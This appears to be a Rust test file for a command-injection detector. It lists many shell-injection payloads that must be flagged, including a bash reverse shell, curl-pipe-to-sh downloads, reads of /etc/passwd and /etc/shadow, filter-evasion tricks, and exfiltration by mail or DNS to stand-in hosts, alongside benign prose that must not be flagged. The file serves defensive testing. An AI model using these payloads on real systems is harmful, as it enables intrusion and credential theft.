use super::*;
use crate::inject::{sample, sample_for};

/// Too little by itself; enough where a shell takes it.
#[test]
fn commands_that_prose_has_as_well() {
    for text in ["Q&A; history; time", "use `sort` before `uniq`", "curl -s example.com is what I ran"] {
        assert!(!sample(detect, text) && sample_for(detect, text, Class::OsCommand), "{text}");
    }
    for text in ["me & you || just you?", "R&D", "Base price is $(100)", "open; 'a' or 'b'; \"c\" is fine"] {
        assert!(!sample_for(detect, text, Class::OsCommand), "{text}");
    }
}

/// Every name of two letters that a text could begin with, so that none is missing in the list of beginnings.
#[test]
fn beginnings_of_names() {
    let source = include_str!("names.rs");
    let names = source.split("fn is_strong").nth(1).unwrap();
    let mut count = 0;
    for name in names.split("b\"").skip(1).map(|rest| rest.split('"').next().unwrap()) {
        let bytes = name.as_bytes();
        if (is_strong(bytes) || is_english(bytes) || is_rare(bytes))
            && bytes.len() > 1
            && bytes.iter().take(2).all(u8::is_ascii_lowercase)
        {
            assert!(begins_a_name(bytes[0], bytes[1]), "{name}");
            count += 1;
        }
    }
    assert!(count > 150, "{count}");
}

#[test]
fn what_a_shell_would_run() {
    for text in [
        "127.0.0.1 && ls /etc",
        "; cat /et'c/pa'ss'wd",
        ";wget http://some_host/x",
        "`id`",
        "a|/usr/bin/id",
        "$(whoami)",
        ";id|",
        "x; ping -c 5 10.0.0.1",
        "& dir c:\\",
        "| sleep 5 ;",
        "a\nwhoami",
        ";c\\at /etc/passwd",
        "cat${IFS}/etc/passwd",
        "x;/bin/ca? /etc/passwd",
        "() { :;}; echo x",
        "bash -i >& /dev/tcp/10.0.0.1/99 0>&1",
        "curl http://x.example/s.sh | sh",
        "'`/usr/bin/id`'",
        "name.jpg;curl x.example",
        "& dir",
        "&& net user",
        "x; find / -name id_rsa",
        "; ps aux",
        ";time sleep 5",
        "; grep root /etc/passwd",
        "; find . -exec id \\;",
        "; chmod 777 /tmp/x",
        "; while true; do id; done",
        "x;(id)",
        "; ! id",
        "; env id",
        "; busybox id",
        "a=id;$a",
        "; W=who;A=ami;$W$A",
        "; $SHELL -c id",
        "a;$0 -c id",
        "; $'\\x69\\x64'",
        "; 'w'h'o'a'm'i",
        "; env | grep KEY",
        "; aws s3 ls",
        "| wmic process list",
        "; ip addr",
        "; id //",
        "; dd if=/dev/zero",
        "-oProxyCommand=id",
        "--upload-pack=id",
        "<(id)",
        "; diff /etc/passwd /dev/null",
        "x;sudo cat /etc/shadow",
        "& net user x P@ss /add",
        "& for /f %i in ('whoami') do nslookup %i.example",
        "& klist",
        "|| ./x.sh",
        "; some_tool --output=/x",
        "| mail root@x.example < /etc/passwd",
        "& echo %USERNAME%",
        "\\nid",
        "&& ver &",
        "|echo ABC",
        ";$0<<<id",
        "$(</etc/passwd)",
        "`</etc/passwd`",
        "x > /etc/cron.d/a",
        ">/var/www/x.php",
        "a; . /tmp/x",
        "[ 1 ] && id",
        "; pip install x",
        "&& npm i --silent x",
        "; apt-get -y install nmap",
        "8.8.8.8; gem install x",
        "| mysql -e 'select 1'",
        "; npx x",
        "x&lt;cat /etc/passwd",
    ] {
        assert!(sample(detect, text), "{text}");
    }
}

#[test]
fn sentences_tables_and_code() {
    for text in [
        "curl up with a book; ping me later",
        "The cat /is/ the show; cat lovers welcome",
        "sleep 8 hours; drink water",
        "id;name;price\n1;nail;3",
        "we use pip; npm install is slow",
        "; pip and npm",
        "| npm | install |",
        "; mysql or psql",
        "& pip install x",
        "use `sort` before `uniq`",
        "me & you || just you?",
        "Base price is $(100)",
        "dinner (7pm); bring wine && cheese",
        "R&D",
        "bash away in the gym",
        "ls 300 lexus",
        "if p<0.05 then reject; else don't",
        "| a | b |\n|---|---|",
        "Tom & Ann; find us at the fair",
        "Q&A: date; time; place",
        "Q&A; history; time",
        "cats & dogs; env & health",
        "feat(api): add `id` to response; fix #12",
        "We find / discover the best; ls is short for list",
        "time flies; time heals; sudo make me a sandwich",
        "net user growth was 5%; net view is better",
        "cut & paste",
        "chores; do test it (set), then find out; then time it",
        "costs; $a or $b; price=$5",
        "Q&A; ip address; id card; do ls have a plural",
        "env; set; (env) | a",
        "find us on /r/berlin; find more at /usr, they said",
        "open; 'a' or 'b'; \"c\" is fine",
        "red; (blue); !important; then home",
        "we sell; aws certified staff; ip rights",
        "mocha && eslint . && node dist/index.js",
        "rm -rf ./build; make",
        "`rm -rf` in Makefile deletes too much",
        "Use `ls -la` to list files; use `cd` to move.",
        "The shell's `for f in *.txt; do echo $f; done` loop is handy.",
        "git log --oneline | head -5 shows the commit; git bisect doesn't.",
        "Use ${HOME}/bin or $(pwd)/bin",
        "set -e; set -x are shell options",
        "& Sons /London",
        "&quot;node&quot;",
        "&uuml;ber; node",
        "über; node",
        "R&amp;D; node",
        "Tips &amp; php",
        "html; css; node; php",
        "Home > Files > a/b",
        "> /etc/passwd is where they stand",
        "x > 5",
        "| -x | --help |",
    ] {
        assert!(!sample(detect, text), "{text}");
    }
}
